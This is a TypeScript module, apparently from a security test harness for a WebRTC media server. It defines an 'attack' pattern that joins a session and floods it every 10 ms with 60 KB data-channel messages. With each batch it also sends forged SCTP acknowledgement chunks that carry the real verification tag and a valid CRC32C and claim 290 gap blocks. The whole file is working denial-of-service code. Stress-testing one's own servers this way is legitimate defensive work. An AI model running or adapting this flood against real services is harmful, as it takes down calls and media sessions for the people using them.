import { enterMedia, everyMs, openMicrophone } from '../intoLesson.ts'
import type { Pattern } from '../pattern.ts'

/** A report of received chunks that names 290 times all there can be. */
const report = (tag: number) => {
  const packet = Buffer.alloc(12 + 16 + 290 * 4)
  packet.writeUInt16BE(5000, 0)
  packet.writeUInt16BE(5000, 2)
  packet.writeUInt32BE(tag, 4)
  packet.writeUInt8(3, 12)
  packet.writeUInt16BE(packet.length - 12, 14)
  packet.writeUInt16BE(290, 24)
  for (let n = 0; n < 290; n++) packet.writeUInt16BE(0xffff, 28 + n * 4 + 2)
  packet.writeInt32LE(crc32c(packet), 8)
  return packet
}
const crc32c = (bytes: Buffer): number => {
  let crc = -1
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0x82f63b78 & -(crc & 1))
  }
  return ~crc
}

export const pattern: Pattern = {
  what: 'data of 60 KB a hundred times a second, and reports of received data that name 19 million pieces',
  attack: async (target) => {
    const { client } = await enterMedia(target)
    await openMicrophone(client)
    const { sctp } = client.publisher.openChannels()
    await new Promise<void>((done) => {
      sctp.stateChanged.connected.once(() => done())
      setTimeout(done, 3000)
    })
    // The tag that the engine expects is werift's own business.
    const { remoteVerificationTag: tag } = sctp as unknown as { remoteVerificationTag: number }
    const forged = report(tag)
    const message = Buffer.alloc(60_000)
    let sent = 0
    await everyMs(target, 10, async () => {
      sent++
      if (sctp.outboundQueue.length < 2000) sctp.send(0, 53, message, { ordered: true }).catch(() => {})
      for (let n = 0; n < 5; n++) await client.publisher.sendApplication(forged)
      return client.signal.readyState === 1
    })
    return `${sent} of each, then ${client.signal.readyState === 1 ? 'still in' : 'out'}`
  },
}
